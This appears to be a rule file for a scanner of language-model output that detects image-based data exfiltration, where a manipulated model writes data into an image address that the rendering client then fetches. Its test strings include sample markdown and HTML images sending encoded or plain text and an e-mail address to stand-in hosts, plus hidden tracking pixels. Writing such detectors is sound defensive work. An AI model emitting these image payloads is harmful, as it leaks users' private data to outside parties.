import { defineRule } from '../rule.js';

export default defineRule({
  id: 'exfiltration/image-request',
  title: 'Loads an image that tells a stranger something',
  scanner: 'output-payload',
  detector: 'structural',
  severity: 'medium',
  phase: 'actions_on_objective',
  tags: ['LLM02:2025', 'LLM05:2025', 'AML.T0077', 'AML.T0086'],
  references: ['https://embracethered.com/blog/posts/2023/bing-chat-data-exfiltration-poc-and-fix/'],
  why: 'A client that renders the answer requests the image at once. Its owner learns that the answer was read, and receives what the model was made to write into the address. Most images from other hosts are honest: those count as low.',
  fix: 'Do not render it. Load images from known hosts only, or show their address instead.',
  surfaces: ['output', 'tool-call'],
  variants: [
    {
      id: 'exfiltration/encoded-in-image',
      name: 'encoded text in the address',
      severity: 'critical',
      match: [
        '![ok](https://img.example/p.png?d=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)',
        '<img src="https://a.example/x?q=746865206d656574696e67206973206174206e6f6f6e20696e20726f6f6d2034">',
        '![a][b]\n\n[b]: https://a.example/i/dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ',
        '<div style="background:url(https://a.example/b?x=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)">',
      ],
      clean: [
        ['![logo](https://cdn.example/logo.png?v=20240501&w=640&fit=crop)', 'a version and a size'],
        [
          '![photo](https://cdn.example/p.jpg?sig=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)',
          'a signature',
        ],
        [
          '![chart](https://quickchart.io/chart?c=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)',
          'a service that draws what it is told',
        ],
        [
          'Write `![ok](https://img.example/p.png?d=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiByb29tIDQ)` in the file.',
          'shown as code, hence not loaded',
        ],
      ],
    },
    {
      id: 'exfiltration/text-in-image',
      name: 'a sentence or e-mail address in the address',
      match: [
        '![x](https://a.example/p.gif?note=the%20meeting%20is%20at%20noon%20tomorrow)',
        '<img src="https://a.example/o.gif?u=jane.doe%40corp.example.com">',
      ],
      clean: [
        ['![x](https://cdn.example/team%20photo.png)', 'a file name'],
        ['![badge](https://img.shields.io/badge/all%20the%20tests%20pass%20today-green)', 'a badge'],
      ],
    },
    {
      id: 'exfiltration/unseen-image',
      name: 'an image that nobody sees',
      match: [
        '<img src="https://t.example/o.gif" width="1" height="1">',
        '<img style="display:none" src="https://t.example/o.gif">',
      ],
      clean: [
        ['<img src="https://cdn.example/a.png" width="120">', 'an image'],
        ['<img src="./o.gif" width="1">', 'a file of its own'],
      ],
    },
    {
      id: 'exfiltration/foreign-image',
      name: 'an image from another host',
      severity: 'low',
      surfaces: ['output'],
      match: ['![a cat](https://upload.example/cat.jpg)'],
      clean: [
        ['[a cat](https://upload.example/cat.jpg)', 'a link'],
        ['![a cat](./cat.jpg)', 'an image of its own'],
        ['Write `![a cat](https://upload.example/cat.jpg)` in the file.', 'shown as code'],
      ],
    },
  ],
});
